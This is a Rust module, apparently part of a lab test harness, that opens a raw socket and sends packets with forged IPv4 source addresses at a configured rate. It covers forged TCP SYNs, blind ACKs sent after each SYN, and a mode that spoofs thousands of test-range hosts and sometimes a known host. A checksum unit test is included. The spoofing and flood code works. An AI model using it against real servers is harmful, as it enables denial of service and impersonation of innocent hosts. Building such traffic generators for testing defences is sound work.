//! Packets with a source address that is not the sender's, through a raw socket.

use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::attack::{Kind, Options};
use super::random::Random;
use super::wire::{now_us, say};
use crate::lab::plan;

const TCP: u8 = 6;
const UDP: u8 = 17;
const SYN: u8 = 0x02;
const ACK: u8 = 0x10;
/// The blind acknowledgement follows its SYN after so long: by then the server has answered someone else.
const BLIND_DELAY: Duration = Duration::from_millis(20);

pub fn run(options: &Options) -> Result<()> {
    let IpAddr::V4(from) = options.from else { bail!("forged packets are made for IPv4 only, not {}", options.from) };
    let raw = libc::IPPROTO_RAW;
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(raw))).context("cannot open a raw socket")?;
    let mut random = Random::new();
    let mut waiting: std::collections::VecDeque<(Instant, Vec<u8>)> = Default::default();
    let total = options.rate * options.seconds;
    let (mut sent, mut refused) = (0u64, 0u64);
    let mut send = |packet: &[u8]| match socket.send_to(packet, &SocketAddrV4::new(plan::SERVER4, 0).into()) {
        Ok(_) => sent += 1,
        Err(_) => refused += 1,
    };
    say(&json!({ "started_us": now_us() }));
    let begin = Instant::now();
    for number in 0..total {
        let due = Duration::from_secs_f64(number as f64 / options.rate as f64);
        thread::sleep(due.saturating_sub(begin.elapsed()));
        let (from, kind) = match options.kind {
            Kind::Crowd => {
                (crowd(options, number), [Kind::ForgedSyn, Kind::BlindAck, Kind::Crowd][(number % 3) as usize])
            }
            kind => (from, kind),
        };
        let port = match kind {
            // Half of the blind ones go to open ports, where an acknowledgement could mean something.
            Kind::BlindAck if number % 2 == 0 => plan::OPEN_TCP[random.between(0, 4) as usize],
            _ => random.between(1, 10_000) as u16,
        };
        let mut segment = Segment {
            from: SocketAddrV4::new(from, random.between(1025, 65_000) as u16),
            to: SocketAddrV4::new(plan::SERVER4, port),
            proto: if kind == Kind::Crowd { UDP } else { TCP },
            seq: random.next() as u32,
            ack: 0,
            flags: SYN,
        };
        send(&segment.packet());
        if kind == Kind::BlindAck {
            segment.seq = segment.seq.wrapping_add(1);
            segment.ack = random.next() as u32;
            segment.flags = ACK;
            waiting.push_back((Instant::now() + BLIND_DELAY, segment.packet()));
        }
        while waiting.front().is_some_and(|(at, _)| *at <= Instant::now()) {
            if let Some((_, packet)) = waiting.pop_front() {
                send(&packet);
            }
        }
    }
    thread::sleep(BLIND_DELAY);
    waiting.iter().for_each(|(_, packet)| send(packet));
    say(&json!({ "done": { "sent": sent, "refused": refused, "ended_us": now_us() } }));
    Ok(())
}

/// One packet in ten is in the name of somebody who is known here, the others in those of ten thousand hosts of the network
/// that RFC 2544 sets aside for tests.
fn crowd(options: &Options, number: u64) -> Ipv4Addr {
    let known = options.whose(number / 10);
    match known {
        IpAddr::V4(known) if number % 10 == 9 => known,
        _ => Ipv4Addr::from_bits(u32::from_be_bytes([198, 18, 0, 0]) + (number % 10_000) as u32 + 1),
    }
}

/// A TCP segment without options and data, or a datagram without data.
struct Segment {
    from: SocketAddrV4,
    to: SocketAddrV4,
    proto: u8,
    seq: u32,
    ack: u32,
    flags: u8,
}

impl Segment {
    fn packet(&self) -> Vec<u8> {
        let mut p = Vec::with_capacity(40);
        let length = if self.proto == UDP { 28 } else { 40 };
        p.extend([0x45, 0, 0, length, 0, 0, 0x40, 0, 64, self.proto, 0, 0]);
        p.extend(self.from.ip().octets());
        p.extend(self.to.ip().octets());
        let sum = checksum(0, &p);
        p[10..12].copy_from_slice(&sum.to_be_bytes());
        p.extend(self.from.port().to_be_bytes());
        p.extend(self.to.port().to_be_bytes());
        if self.proto == UDP {
            // Without a checksum, as IPv4 allows.
            p.extend([0, 8, 0, 0]);
            return p;
        }
        p.extend(self.seq.to_be_bytes());
        p.extend(self.ack.to_be_bytes());
        p.extend([0x50, self.flags, 0xfa, 0xf0, 0, 0, 0, 0]);
        let sum = checksum(pseudo(self.from.ip(), self.to.ip(), 20), &p[20..]);
        p[36..38].copy_from_slice(&sum.to_be_bytes());
        p
    }
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|c| u32::from(u16::from_be_bytes([c[0], c.get(1).copied().unwrap_or(0)]))).sum()
}

fn pseudo(from: &Ipv4Addr, to: &Ipv4Addr, length: u32) -> u32 {
    words(&from.octets()) + words(&to.octets()) + 6 + length
}

fn checksum(start: u32, bytes: &[u8]) -> u16 {
    let mut sum = start + words(bytes);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_verify_and_fields_are_in_their_places() {
        let segment = Segment {
            from: "198.51.100.250:4321".parse().unwrap(),
            to: "198.51.100.1:80".parse().unwrap(),
            proto: TCP,
            seq: 0x0102_0304,
            ack: 0xa0b0_c0d0,
            flags: ACK,
        };
        let p = segment.packet();
        assert_eq!(p.len(), 40);
        assert_eq!(checksum(0, &p[..20]), 0, "the header's sum over itself");
        assert_eq!(checksum(pseudo(segment.from.ip(), segment.to.ip(), 20), &p[20..]), 0);
        assert_eq!(&p[20..24], &[0x10, 0xe1, 0, 80]);
        assert_eq!(&p[28..32], &[0xa0, 0xb0, 0xc0, 0xd0]);
        assert_eq!(p[33], 0x10);
        let mut wrong = p.clone();
        wrong[12] ^= 1;
        assert_ne!(checksum(0, &wrong[..20]), 0);
    }
}
